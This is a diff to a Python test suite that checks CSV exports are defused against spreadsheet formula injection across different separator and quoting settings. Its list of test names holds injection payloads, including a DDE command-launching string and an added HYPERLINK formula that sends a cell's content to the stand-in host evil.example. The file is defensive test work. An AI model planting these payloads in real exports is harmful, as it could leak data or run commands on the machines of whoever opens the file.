@@ -5,7 +5,6 @@
 
 from __future__ import annotations
 
-import csv
 import os
 import re
 import subprocess
@@ -21,7 +20,14 @@ from service import STUB, Service, environment
 
 # As for a person who wants everything recognised: UTF-8, numbers detected, formulas evaluated.
 EAGER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
-OPENED = {"by itself": (), "eagerly": (f"--infilter={EAGER}",)}
+OPENED = {
+    "by itself": (),
+    "eagerly": (f"--infilter={EAGER}",),
+    "where ; separates": ("--infilter=CSV:59,34,76,1",),
+    "eagerly, where ; separates": (f"--infilter={EAGER.replace('CSV:44', 'CSV:59')}",),
+    "where all separate": (f"--infilter={EAGER.replace('CSV:44', 'CSV:9/44/59/124')}",),
+    "where | separates and ' quotes": ("--infilter=CSV:59/124,39,76,1",),
+}
 NAMES = (
     "=1+1",
     "=cmd|' \\C calc'!A0",
@@ -39,6 +45,17 @@ NAMES = (
     '","=1+1',
     "'=1+1",
     ";=1+1",
+    "a;=1+1;",
+    'b;=HYPERLINK("http:\\\\evil.example"&A1,"x");',
+    "c;@SUM(1,2)",
+    "e\t=1+1",
+    'f;"=1+1',
+    "g;'=1+1",
+    "h; =1+1",
+    "k|=1+1|",
+    'l","=1+1',
+    "m,'=1+1",
+    "n;+1+1",
     "{=1+1}",
     "=DDE(1)",
     "%=1+1",
@@ -94,11 +111,13 @@ def test_no_cell_of_our_csv_is_a_formula(log: Path, tmp_path: Path, kind: str, w
 
 
 @pytest.mark.parametrize("kind", ["ods", "xlsx"])
-def test_a_csv_that_is_not_defused_has_formulas_there(tmp_path: Path, kind: str) -> None:
+@pytest.mark.parametrize(("way", "text"), [("eagerly", "=1+1"), ("where ; separates", "a;=1+1;")])
+def test_a_csv_that_is_not_defused_has_formulas_there(
+    tmp_path: Path, kind: str, way: str, text: str
+) -> None:
     file = tmp_path / "control.csv"
-    with file.open("w", newline="") as text:
-        csv.writer(text).writerows([["a"], ["=1+1"]])
-    assert len(formulas(converted(file, tmp_path, kind, OPENED["eagerly"]))) == 1
+    file.write_text(f'"a"\r\n0,"{text}"\r\n' if ";" in text else f'"a"\r\n"{text}"\r\n')
+    assert len(formulas(converted(file, tmp_path, kind, OPENED[way]))) == 1
 
 
 def test_names_are_told_as_they_are_in_the_jsonl(log: Path) -> None:
